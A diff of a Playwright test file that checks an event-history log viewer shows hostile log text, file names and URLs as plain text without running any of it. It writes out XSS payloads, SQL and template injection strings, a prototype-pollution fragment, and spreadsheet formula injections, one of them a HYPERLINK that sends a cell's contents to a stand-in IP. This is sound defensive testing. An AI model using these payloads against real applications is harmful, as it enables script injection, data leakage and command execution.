@@ -1,153 +1,222 @@
 import { writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
-import { parse } from 'csv-parse/sync'
-import { ask, loaded } from './api.ts'
+import type { Page } from '@playwright/test'
+import { HOSTILE_TEXT, hostileRecord } from '../src/testing/hostileText.ts'
+import { ask, loaded, post, type ListedEvent } from './api.ts'
+import { violations } from './axe.ts'
 import type { ConsoleServer } from './consoleServer.ts'
 import { EventHistoryPage } from './EventHistoryPage.ts'
 import { expect, test } from './fixtures.ts'
-import { record } from './logFiles.ts'
 
-/** What somebody who may name a thing may write into the log: each must stay text. Any that ran would say so in the title. */
-const HTML = `<img src=x onerror="document.title='ran'"><script>document.title='ran'</script>`
-const ATTRIBUTE = `"><svg onload="document.title='ran'"></svg>'`
-const LINK = `javascript:document.title='ran'`
-const BIDI = 'user\u202etxt.exe\u2066\u200b'
-const FORMULAS = ['=HYPERLINK("http://192.0.2.1/?"&A1)', '+cmd|calc', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)']
-const WORD = 'W'.repeat(64 * 1024)
-const TEMPLATE = '${document.title}{{constructor.constructor("document.title=1")()}}%s%n\u0007'
-const SQL = `'; DROP TABLE events; --`
+const TEXTS = Object.entries(HOSTILE_TEXT)
+const RECORDS = TEXTS.map(([, text], minute) => JSON.stringify(hostileRecord(text, minute)))
 
-/** `\uD800` alone and `__proto__` have to be written by hand: no JSON.stringify makes them from an object literal. */
-const BY_HAND = `"loneSurrogate":"a\\ud800b","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}}`
-
-const hostile = {
-  ...record(1),
-  userIdentity: {
-    type: 'IAMUser',
-    principalId: HTML,
-    arn: LINK,
-    accountId: ATTRIBUTE,
-    accessKeyId: FORMULAS[1],
-    userName: HTML,
-    sessionContext: { sessionIssuer: { userName: BIDI, arn: HTML } },
-  },
-  eventName: HTML,
-  eventSource: ATTRIBUTE,
-  awsRegion: BIDI,
-  sourceIPAddress: SQL,
-  userAgent: FORMULAS[0],
-  errorCode: TEMPLATE,
-  errorMessage: WORD,
-  requestParameters: { [HTML]: HTML, policyDocument: JSON.stringify({ Statement: HTML }), url: LINK },
-  responseElements: { word: WORD, formulas: FORMULAS },
-  resources: [{ ARN: LINK, accountId: HTML, type: ATTRIBUTE }],
-  requestID: FORMULAS[2],
-  eventID: '../../<b>%2e%2e/"><i>',
-  eventType: FORMULAS[3],
-  eventCategory: HTML,
-  recipientAccountId: FORMULAS[3],
+/** How the events are listed, each as the API has it: what the page must show, character for character. */
+type HostileEvent = ListedEvent & {
+  readonly id: string
+  readonly errorCode: string
+  readonly awsRegion: string
 }
-const RECORD = `${JSON.stringify(hostile).slice(0, -1)},${BY_HAND}}`
+
+/** Columns of every kind: fields, a path, and one that no record could mean well by. */
+const COLUMNS = [
+  'eventName',
+  'userName',
+  'eventSource',
+  'resourceName',
+  'errorCode',
+  'awsRegion',
+  HOSTILE_TEXT.html,
+]
+
+// A trace would write the longest words down again at every step.
+test.use({ trace: 'off' })
 
 let server: ConsoleServer
 let eventHistory: EventHistoryPage
+let events: readonly HostileEvent[]
+
+const eventOf = (name: keyof typeof HOSTILE_TEXT): HostileEvent =>
+  events[TEXTS.findIndex(([each]) => each === name)]!
 
 test.beforeEach(async ({ folder, ownServerWith, page }) => {
   await writeFile(
-    join(folder, `<img src=x onerror=alert(1)>.json`),
-    `{"Records":[${RECORD},${JSON.stringify(record(2))}]}`,
+    join(folder, '<img src=x onerror=window.ran=1>\u001b[31m\u202e.json'),
+    `{"Records":[${RECORDS.join(',')}]}`,
   )
   server = await ownServerWith('--in-memory', folder)
-  expect(await loaded(server)).toMatchObject({ eventCount: 2, problems: 0 })
+  expect(await loaded(server)).toMatchObject({ eventCount: TEXTS.length, problems: 0 })
+  const listed = await ask<{ events: readonly HostileEvent[] }>(
+    server,
+    '/api/events?order=oldest&maxResults=100',
+  )
+  events = listed.events
   eventHistory = new EventHistoryPage(page, server.origin)
+  page.on('dialog', (dialog) => {
+    throw new Error(`A dialog opened: ${dialog.message()}`)
+  })
 })
 
 test.afterEach(async ({ page }) => {
-  expect(await page.title()).not.toBe('ran')
+  expect(await page.evaluate(() => 'ran' in window || 'polluted' in {})).toBe(false)
+  await expect(page.locator('img[src="x"], svg[onload], iframe, base, [onerror], [onmouseover]')).toHaveCount(
+    0,
+  )
+  const elsewhere = await page
+    .locator('a[href]')
+    .evaluateAll((links) =>
+      links.flatMap((link) =>
+        link instanceof HTMLAnchorElement && link.origin !== location.origin ? link.href : [],
+      ),
+    )
+  expect(elsewhere).toEqual([])
 })
 
-test('a hostile record is shown as it is written, in the list, the panel, as text and on its page', async ({
-  page,
-}) => {
-  const dialogs: string[] = []
-  page.on('dialog', async (dialog) => {
-    dialogs.push(dialog.message())
-    await dialog.dismiss()
-  })
-  await eventHistory.open()
-  await expect(eventHistory.rows).toHaveCount(2)
-  const row = eventHistory.row('onerror')
-  await expect(row).toContainText(HTML)
-  await eventHistory.openEvent(row)
-  await expect(eventHistory.details.getByRole('heading', { level: 2 })).toHaveText(HTML)
-  await eventHistory.details.getByRole('button', { name: 'Text', exact: true }).click()
-  const text = eventHistory.details.getByRole('region', { name: 'Event record as text' })
-  await expect(text).toContainText('"loneSurrogate": "a\\ud800b"')
-  await expect(text).toContainText('"polluted": true')
-  await eventHistory.openAsPage.click()
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText(HTML)
-  await expect(eventHistory.record).toBeVisible()
-  await page.reload()
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText(HTML)
-  expect(dialogs).toEqual([])
-  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
+test('every text stands in the list as it is written, whatever column it is in', async ({ page }) => {
+  await page.addInitScript(
+    (columns) =>
+      localStorage.setItem(
+        'event-history-preferences',
+        JSON.stringify({ state: { columns, density: 'compact' }, version: 0 }),
+      ),
+    COLUMNS,
+  )
+  await page.setViewportSize({ width: 1440, height: 2200 })
+  await eventHistory.open('/?order=oldest')
+  await expect(eventHistory.rows).toHaveCount(TEXTS.length)
+  const shown = await eventHistory.rows.evaluateAll((rows) =>
+    rows.map((row) => {
+      const cells = row.querySelectorAll('[role=gridcell]')
+      return [cells[1]?.querySelector('a')?.textContent, cells[2]?.textContent, cells[6]?.textContent]
+    }),
+  )
+  expect(shown).toEqual(events.map(({ eventName, userName, awsRegion }) => [eventName, userName, awsRegion]))
+  // A row is a row, whatever stands in it.
+  const heights = await eventHistory.rows.evaluateAll((rows) => rows.map((row) => row.clientHeight))
+  expect(new Set(heights).size).toBe(1)
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(1440)
 })
 
-test('nothing of a hostile record becomes an element or a link that can be followed', async ({ page }) => {
-  await eventHistory.open()
-  await eventHistory.openEvent(eventHistory.row('onerror'))
-  await expect(page.locator('img[src="x"], svg[onload], script:not([src]), [onerror]')).toHaveCount(0)
-  await expect(page.locator('a[href^="javascript"]')).toHaveCount(0)
-})
-
-test('the record copied is byte for byte what was in the log file', async ({ page }) => {
-  await eventHistory.open()
-  await eventHistory.openEvent(eventHistory.row('onerror'))
-  await eventHistory.details.getByRole('button', { name: 'Copy the event record as it was written' }).click()
-  await expect(eventHistory.details.getByRole('button', { name: 'Copied', exact: true })).toBeVisible()
-  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(RECORD)
-})
-
-test('a hostile value becomes a filter that finds its event, and goes round through the address', async ({
-  page,
-}) => {
-  for (const [field, value] of [
-    ['eventName', HTML],
-    ['sourceIPAddress', SQL],
-    ['awsRegion', BIDI],
-    ['userAgent', FORMULAS[0]!],
-    ['errorCode', TEMPLATE],
-    ['errorMessage', 'W'.repeat(1000)],
-  ] as const) {
-    const key = field === 'errorMessage' ? `${field}^` : field
-    await eventHistory.open(`/?${key}=${encodeURIComponent(value)}`)
-    await expect(eventHistory.heading).toHaveText('Event history (1)')
-    await page.reload()
-    await expect(eventHistory.heading).toHaveText('Event history (1)')
+test('every text stands in the details as it is written, event after event', async ({ page }) => {
+  test.slow()
+  await page.goto(`${server.origin}/?order=oldest&event=${encodeURIComponent(events[0]!.id)}`)
+  for (const event of events) {
+    await expect(valueOf(page, 'User name')).toHaveJSProperty('textContent', event.userName)
+    await eventHistory.record.waitFor()
+    expect(await valueOf(page, 'Error code').textContent()).toBe(event.errorCode)
+    expect(await valueOf(page, 'AWS region').textContent()).toBe(event.awsRegion)
+    await page.keyboard.press(']')
   }
 })
 
-test('downloads give the record back, and a spreadsheet no formula', async () => {
-  const response = await fetch(`${server.origin}/api/events/download?format=ndjson&order=oldest`)
-  expect((await response.text()).split('\n')[0]).toBe(RECORD)
-  const json = await ask<{ Records: unknown[] }>(server, '/api/events/download')
-  expect(json.Records).toHaveLength(2)
-
-  const csv = await (await fetch(`${server.origin}/api/events/download?format=csv`)).text()
-  const rows = parse(csv)
-  expect(rows).toHaveLength(3)
-  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
-  expect(rows.flat()).toContain(`'${FORMULAS[0]}`)
-  expect(rows.flat()).toContain(HTML)
+test('a text that hides is marked, in its details, in the record and on its page', async ({ page }) => {
+  const { id } = eventOf('bidi')
+  await page.goto(`${server.origin}/events/${encodeURIComponent(id)}`)
+  const title = page.getByRole('heading', { level: 1 })
+  await expect(title.getByTitle('Right-to-left override (U+202E)')).toBeVisible()
+  await expect(page).toHaveTitle(/^user\(U\+202E\)txt\.exe/)
+  await expect(valueOf(page, 'User name').getByTitle('Right-to-left override (U+202E)')).toBeVisible()
+  await expect(eventHistory.record.getByTitle('Right-to-left override (U+202E)').first()).toBeVisible()
+  expect(await violations(page)).toEqual([])
+  await page.getByRole('button', { name: 'Text', exact: true }).click()
+  await expect(page.getByRole('region', { name: 'Event record as text' })).toContainText('user\\u202etxt.exe')
+  await page.getByRole('searchbox', { name: 'Search in this record' }).fill('user\u202etxt')
+  await expect(page.getByText(/^1 of \d+$/)).toBeVisible()
 })
 
-test('a log file with a hostile name is named as it is, and the report stays text', async ({ page }) => {
-  const name = `"><img src=x onerror="document.title='ran'">.json`
-  const form = new FormData()
-  form.set('file', new Blob(['{"Records":[{']), name)
-  const response = await fetch(`${server.origin}/api/log-files`, { method: 'POST', body: form })
-  expect(response.status).toBe(200)
+for (const name of [
+  'bidi',
+  'zeroWidth',
+  'zalgo',
+  'lines',
+  'ansi',
+  'tags',
+  'html',
+  'zeroWidthWord',
+] as const) {
+  test(`what is selected and copied is the text itself: ${name}`, async ({ page }) => {
+    const event = eventOf(name)
+    await page.goto(`${server.origin}/?order=oldest&event=${encodeURIComponent(event.id)}`)
+    await eventHistory.record.waitFor()
+    await valueOf(page, 'User name').evaluate((value) => getSelection()?.selectAllChildren(value))
+    await page.keyboard.press('Control+C')
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(event.userName)
+    await eventHistory.details
+      .getByRole('button', { name: 'Copy the event record as it was written' })
+      .click()
+    await expect(eventHistory.details.getByRole('button', { name: 'Copied', exact: true })).toBeVisible()
+    const index = events.indexOf(event)
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(RECORDS[index])
+  })
+}
+
+test('every text stands beside the others where events are compared', async ({ page }) => {
+  const compared = (['html', 'bidi', 'zalgo', 'prototype', 'sql', 'word'] as const).map(eventOf)
+  const query = compared.map(({ id }) => `id=${encodeURIComponent(id)}`).join('&')
+  await page.goto(`${server.origin}/compare?${query}`)
+  const row = page.getByRole('row').filter({ has: page.getByText('userAgent', { exact: true }) })
+  await expect(row).toHaveCount(1)
+  for (const [index, { userName }] of compared.entries()) {
+    const shown = await row.getByRole('cell').nth(index).textContent()
+    expect(shown?.slice(0, 2000)).toBe(userName?.slice(0, 2000))
+  }
+  expect(await violations(page)).toEqual([])
+})
+
+test('every text makes a filter that finds its event, and one address carries them all', async ({ page }) => {
+  const short = events.filter(({ eventName }) => eventName.length < 1000)
+  const query = short.map(({ eventName }) => `eventName=${encodeURIComponent(eventName)}`).join('&')
+  await eventHistory.open(`/?${query}`)
+  await expect(eventHistory.heading).toHaveText(`Event history (${short.length})`)
+  await page.reload()
+  await expect(eventHistory.heading).toHaveText(`Event history (${short.length})`)
+  await eventHistory.filterBy('Error code != nothing')
+  await expect(page).toHaveURL(/errorCode!=nothing/)
+  for (const { eventName } of short) {
+    expect(new URL(page.url()).searchParams.getAll('eventName')).toContain(eventName)
+  }
+})
+
+test('a suggestion is marked, and gives the text itself', async ({ page }) => {
+  await eventHistory.open()
+  await eventHistory.filterInput.fill('User name = user')
+  await page.getByRole('option', { name: /user\(U\+202E\)txt/ }).click()
+  await expect(eventHistory.heading).toHaveText('Event history (1)')
+  expect(new URL(page.url()).searchParams.get('userName')).toBe(HOSTILE_TEXT.bidi)
+  await expect(eventHistory.filterTokens.first()).toContainText('user(U+202E)txt')
+})
+
+test('an address can say anything and stays text', async ({ page }) => {
+  const hostile = encodeURIComponent(HOSTILE_TEXT.html + HOSTILE_TEXT.bidi)
+  await eventHistory.open(`/?userName=${hostile}&text=${hostile}&range=90d`).catch(() => {})
+  await page.goto(`${server.origin}/?userName=${hostile}&eventName=none&text=x`)
+  await expect(page.getByText('No events match this filter')).toBeVisible()
+  await expect(page.getByRole('main').getByTitle('Right-to-left override (U+202E)').first()).toBeVisible()
+  await page.goto(`${server.origin}/?range=${hostile}&startTime=${hostile}`)
+  const unreadable = page.getByRole('list', { name: 'Conditions that cannot be understood' })
+  await expect(unreadable.getByRole('listitem')).toHaveCount(2)
+  await expect(unreadable.getByTitle('Right-to-left override (U+202E)').first()).toBeVisible()
+})
+
+test('a log file with a hostile name is named as it is, and commands no terminal', async ({ page }) => {
+  for (const text of [HOSTILE_TEXT.html, HOSTILE_TEXT.ansi, HOSTILE_TEXT.bidi, HOSTILE_TEXT.path]) {
+    expect(await post(server, text, '{"Records":[{')).toMatchObject({ logFile: text, added: 0 })
+  }
   await page.goto(`${server.origin}/load-report`)
-  await expect(page.getByRole('row').filter({ hasText: 'onerror' })).toHaveCount(1)
-  await expect(page.locator('img[src="x"]')).toHaveCount(0)
+  const names = page.getByRole('rowheader')
+  await expect(names).toHaveCount(4)
+  const shown = await names.evaluateAll((cells) => cells.map((cell) => cell.textContent))
+  expect(shown.toSorted()).toEqual(
+    [HOSTILE_TEXT.html, HOSTILE_TEXT.ansi, HOSTILE_TEXT.bidi, HOSTILE_TEXT.path].toSorted(),
+  )
+  // oxlint-disable-next-line no-control-regex -- what commands a terminal
+  expect(server.output()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
 })
+
+/** The value of a term of the details, without what can be done with it. */
+function valueOf(page: Page, label: string) {
+  return page
+    .locator('.detail-value')
+    .filter({ has: page.getByText(label, { exact: true }) })
+    .locator('.detail-value__text')
+}
